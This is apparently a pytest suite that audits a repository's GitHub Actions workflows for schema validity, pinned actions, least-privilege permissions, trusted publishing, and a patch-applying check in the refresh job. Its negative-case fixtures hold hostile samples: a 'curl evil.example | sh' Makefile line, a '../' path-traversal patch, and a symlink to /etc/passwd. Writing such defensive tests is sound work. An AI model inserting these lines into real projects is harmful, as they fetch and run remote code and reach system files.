"""The GitHub workflows, checked offline: each is a workflow GitHub would accept (the keys
its schema allows, at each level), every third-party action is pinned to a commit with the
release named beside it, every `make` target they run exists, zizmor finds nothing, and each
workflow does what it is for (CI on pull requests, the weekly refresh, the release on a tag
with trusted publishing, the Pages site)."""

from __future__ import annotations

import re
import subprocess
import sys
from functools import cache
from pathlib import Path
from typing import Any

import pytest
import yaml

from generator.registry import ROOT

WORKFLOWS = ROOT / ".github" / "workflows"
FILES = sorted(WORKFLOWS.glob("*.yml"))

# The keys GitHub's workflow schema allows (https://json.schemastore.org/github-workflow.json).
WORKFLOW_KEYS = {"name", "run-name", "on", "permissions", "env", "defaults", "concurrency", "jobs"}
JOB_KEYS = {
    "name", "needs", "runs-on", "permissions", "environment", "concurrency", "outputs", "env",
    "defaults", "if", "steps", "timeout-minutes", "strategy", "continue-on-error", "container",
    "services", "uses", "with", "secrets",
}  # fmt: skip
STEP_KEYS = {
    "id", "if", "name", "uses", "run", "shell", "with", "env", "continue-on-error",
    "timeout-minutes", "working-directory",
}  # fmt: skip
EVENTS = {
    "pull_request", "pull_request_target", "push", "schedule", "workflow_dispatch",
    "workflow_call", "release", "issues", "issue_comment", "workflow_run",
}  # fmt: skip
PERMISSIONS = {
    "actions", "attestations", "checks", "contents", "deployments", "id-token", "issues",
    "discussions", "packages", "pages", "pull-requests", "repository-projects",
    "security-events", "statuses",
}  # fmt: skip
PINNED = re.compile(r"^[\w.-]+/[\w./-]+@[0-9a-f]{40} # v\d+(\.\d+)*$")


@cache
def _load(path: Path) -> dict[str, Any]:
    data = yaml.safe_load(path.read_text())
    assert isinstance(data, dict), f"{path.name} is not a mapping"
    if True in data:  # YAML 1.1 reads the key `on` as a boolean
        data["on"] = data.pop(True)
    return data


def _steps(workflow: dict[str, Any]) -> list[dict[str, Any]]:
    return [step for job in workflow["jobs"].values() for step in job.get("steps", [])]


def _runs(workflow: dict[str, Any]) -> str:
    return "\n".join(str(step.get("run", "")) for step in _steps(workflow))


def test_the_workflows_are_there() -> None:
    assert {p.name for p in FILES} >= {
        "ci.yml",
        "diff.yml",
        "docs.yml",
        "refresh.yml",
        "release.yml",
    }


@pytest.mark.parametrize("path", FILES, ids=lambda p: p.name)
def test_schema(path: Path) -> None:
    workflow = _load(path)
    assert set(workflow) <= WORKFLOW_KEYS, set(workflow) - WORKFLOW_KEYS
    assert {"name", "on", "jobs", "permissions"} <= set(workflow)
    events = workflow["on"]
    assert set(events) <= EVENTS, set(events) - EVENTS
    for entry in (events.get("schedule") or []) if isinstance(events, dict) else []:
        assert len(entry["cron"].split()) == 5, entry
    _check_permissions(workflow["permissions"])
    jobs = workflow["jobs"]
    assert jobs and all(re.fullmatch(r"[A-Za-z_][\w-]*", name) for name in jobs)
    for name, job in jobs.items():
        assert set(job) <= JOB_KEYS, (name, set(job) - JOB_KEYS)
        assert "runs-on" in job and "steps" in job, name
        assert isinstance(job.get("timeout-minutes"), int), f"{name}: no timeout-minutes"
        needs = job.get("needs", [])
        assert set([needs] if isinstance(needs, str) else needs) <= set(jobs), name
        _check_permissions(job.get("permissions", {}))
        for step in job["steps"]:
            assert set(step) <= STEP_KEYS, (name, set(step) - STEP_KEYS)
            assert ("uses" in step) != ("run" in step), f"{name}: a step needs uses or run"


def _check_permissions(permissions: dict[str, str] | str) -> None:
    if isinstance(permissions, str):
        raise AssertionError(f"permissions {permissions!r}: name each scope instead")
    assert set(permissions) <= PERMISSIONS, set(permissions) - PERMISSIONS
    assert set(permissions.values()) <= {"read", "write", "none"}


@pytest.mark.parametrize("path", FILES, ids=lambda p: p.name)
def test_every_action_is_pinned_to_a_commit_with_its_release_named(path: Path) -> None:
    lines = [
        line.split("uses:", 1)[1].strip()
        for line in path.read_text().splitlines()
        if "uses:" in line
    ]
    assert lines, f"{path.name} uses no action"
    unpinned = [line for line in lines if not PINNED.match(line)]
    assert not unpinned, f"not owner/repo@<40-hex sha> # vX.Y.Z: {unpinned}"


def test_one_action_release_is_one_commit_everywhere() -> None:
    pins: dict[str, set[str]] = {}
    for path in FILES:
        for found in re.finditer(r"uses: ([\w./-]+)@([0-9a-f]{40}) # (v[\d.]+)", path.read_text()):
            pins.setdefault(found.group(1), set()).add(f"{found.group(2)} {found.group(3)}")
    assert all(len(pinned) == 1 for pinned in pins.values()), pins


def test_every_make_target_the_workflows_run_exists() -> None:
    targets = set(re.findall(r"^([a-z][a-z-]*):", (ROOT / "Makefile").read_text(), re.M))
    used = {
        target
        for path in FILES
        for target in re.findall(r"\bmake ([a-z][a-z-]*)", _runs(_load(path)))
    }
    assert used and used <= targets, used - targets


def test_zizmor_finds_nothing() -> None:
    result = subprocess.run(
        [str(Path(sys.executable).parent / "zizmor"), "--offline", "--no-progress", str(WORKFLOWS)],
        capture_output=True,
        text=True,
        check=False,
    )
    assert result.returncode == 0, result.stdout + result.stderr


def test_ci_runs_check_test_and_the_lowest_versions_on_pull_requests() -> None:
    ci = _load(WORKFLOWS / "ci.yml")
    assert "pull_request" in ci["on"]
    runs = _runs(ci)
    for command in ("make check", "make test", "make test-lowest"):
        assert re.search(rf"^{command}$", runs, re.M), command
    assert ci["jobs"]["test"]["env"]["REQUIRE_CHROMIUM"] == "1"


def test_refresh_runs_make_update_weekly_with_one_pull_request_per_api() -> None:
    refresh = _load(WORKFLOWS / "refresh.yml")
    assert refresh["on"]["schedule"][0]["cron"].split()[4] != "*"  # one day of the week
    update, pull_request = refresh["jobs"]["update"], refresh["jobs"]["pull-request"]
    for job in (update, pull_request):
        assert job["strategy"]["matrix"]["api"] == "${{ fromJSON(needs.apis.outputs.names) }}"
    updating = _runs({"jobs": {"update": update}})
    assert 'make update API="$API"' in updating
    assert "make check && make test" in updating
    opening = _runs({"jobs": {"pull-request": pull_request}})
    assert "--body-file" in opening
    assert "label breaking-change" in opening and ".breaking > 0" in opening
    assert pull_request["env"]["BRANCH"] == "upstream/${{ matrix.api }}"


def test_refresh_runs_upstreams_text_without_a_write_token_and_opens_the_pull_request_apart() -> (
    None
):
    """The job that fetches, generates and tests from upstream's text can write nothing and
    sees no secret; the job that holds the write token runs nothing of the repository's or
    the artifact's: git applies the checked patch, gh opens the pull request."""
    refresh = _load(WORKFLOWS / "refresh.yml")
    update, pull_request = refresh["jobs"]["update"], refresh["jobs"]["pull-request"]
    assert refresh["permissions"] == {"contents": "read"}
    assert update["permissions"] == {"contents": "read"}
    assert "secrets." not in yaml.safe_dump(update)
    uploads = [s for s in update["steps"] if "upload-artifact" in s.get("uses", "")]
    assert [upload["with"]["name"] for upload in uploads] == ["update-${{ matrix.api }}"]

    assert pull_request["needs"] == ["apis", "update"]
    assert pull_request["permissions"] == {"contents": "write", "pull-requests": "write"}
    assert "secrets.UPSTREAM_REFRESH_TOKEN" in pull_request["env"]["GH_TOKEN"]
    actions = [step["uses"].split("@")[0] for step in pull_request["steps"] if "uses" in step]
    assert actions == ["actions/checkout", "actions/download-artifact"]
    opening = _runs({"jobs": {"pull-request": pull_request}})
    command = re.compile(
        r"(^|[;&|(]|\bthen|\bdo)\s*(make|python3?|pip|npm|bash|sh|source|\.|\./\S+)\s"
    )
    assert not [line for line in opening.splitlines() if command.search(line)]
    assert opening.index("--numstat") < opening.index('git apply --index "$patch"')


def _patch_check() -> str:
    [step] = [
        step
        for step in _load(WORKFLOWS / "refresh.yml")["jobs"]["pull-request"]["steps"]
        if str(step.get("name", "")).startswith("Apply the patch")
    ]
    return str(step["run"])


def _git(repo: Path, *args: str) -> str:
    return subprocess.run(
        ["git", *args], cwd=repo, capture_output=True, text=True, check=True
    ).stdout


def _repo(tmp_path: Path) -> Path:
    repo = tmp_path / "repo"
    (repo / "specs").mkdir(parents=True)
    (repo / "generated" / "pkg").mkdir(parents=True)
    (repo / "specs" / "api.yaml").write_text("openapi: 3.1.0\n")
    (repo / "generated" / "pkg" / "m.py").write_text("x = 1\n")
    (repo / "Makefile").write_text("all:\n")
    _git(repo, "init", "-q")
    _git(repo, "add", "-A")
    _git(repo, "-c", "user.name=t", "-c", "user.email=t@t", "commit", "-qm", "base")
    return repo


def _change(repo: Path, how: str) -> None:
    if how == "good":
        (repo / "specs" / "api.yaml").write_text("openapi: 3.1.1\n")
        (repo / "generated" / "pkg" / "new.py").write_text("y = 2\n")
    elif how == "outside":
        (repo / ".github").mkdir()
        (repo / ".github" / "evil.yml").write_text("on: push\n")
    elif how == "symlink":
        (repo / "specs" / "link").symlink_to("/etc/passwd")
    elif how == "executable":
        (repo / "generated" / "pkg" / "run.sh").write_text("#!/bin/sh\n")
        (repo / "generated" / "pkg" / "run.sh").chmod(0o755)
    elif how == "rename-out":
        _git(repo, "mv", "specs/api.yaml", "tools.yaml")
    elif how == "makefile":
        (repo / "Makefile").write_text("all:\n\tcurl evil.example | sh\n")


@pytest.mark.parametrize(
    "how", ["good", "outside", "symlink", "executable", "rename-out", "makefile", "dot-dot"]
)
def test_the_pull_request_job_applies_only_plain_files_in_the_three_folders(
    tmp_path: Path, how: str
) -> None:
    """The check the write-token job runs on the artifact's patch, run here on patches made
    the way the update job makes them (and one written by hand)."""
    repo = _repo(tmp_path)
    handover = tmp_path / "handover"
    handover.mkdir()
    if how == "dot-dot":
        (handover / "change.patch").write_text(
            "diff --git a/specs/../Makefile b/specs/../Makefile\n"
            "--- a/specs/../Makefile\n+++ b/specs/../Makefile\n"
            "@@ -1 +1,2 @@\n all:\n+\tcurl evil.example | sh\n"
        )
    else:
        _change(repo, how)
        _git(repo, "add", "-A")
        (handover / "change.patch").write_text(_git(repo, "diff", "--cached", "--binary"))
        _git(repo, "reset", "-q", "--hard")
        _git(repo, "clean", "-qfd")
    result = subprocess.run(
        ["bash", "--noprofile", "--norc", "-eo", "pipefail", "-c", _patch_check()],
        cwd=repo,
        env={"HANDOVER": str(handover), "PATH": "/usr/bin:/bin"},
        capture_output=True,
        text=True,
        check=False,
    )
    staged = _git(repo, "diff", "--cached", "--name-only").split()
    if how == "good":
        assert result.returncode == 0, result.stdout + result.stderr
        assert staged == ["generated/pkg/new.py", "specs/api.yaml"]
    else:
        assert result.returncode != 0, result.stdout + result.stderr
        assert staged == []
        assert (repo / "Makefile").read_text() == "all:\n"


def test_release_publishes_a_tag_with_trusted_publishing() -> None:
    release = _load(WORKFLOWS / "release.yml")
    assert release["on"] == {"push": {"tags": ["*-v[0-9]*"]}}
    build, publish = release["jobs"]["build"], release["jobs"]["publish"]
    assert 'make build TAG="$TAG"' in _runs({"jobs": {"build": build}})
    assert publish["permissions"] == {"id-token": "write"}
    assert publish["environment"]["name"] == "pypi"
    assert any(
        step.get("uses", "").startswith("pypa/gh-action-pypi-publish@") for step in publish["steps"]
    )
    assert "id-token" not in release["permissions"] and "id-token" not in build.get(
        "permissions", {}
    )
    assert not any("password" in step.get("with", {}) for step in publish["steps"])


def test_docs_builds_the_site_and_deploys_it_to_pages() -> None:
    docs = _load(WORKFLOWS / "docs.yml")
    assert "make docs" in _runs(docs)
    uploads = [
        s for s in docs["jobs"]["build"]["steps"] if "upload-pages-artifact" in s.get("uses", "")
    ]
    assert uploads and uploads[0]["with"]["path"] == "build/site"
    deploy = docs["jobs"]["deploy"]
    assert deploy["permissions"] == {"pages": "write", "id-token": "write"}
    assert any("actions/deploy-pages@" in step.get("uses", "") for step in deploy["steps"])
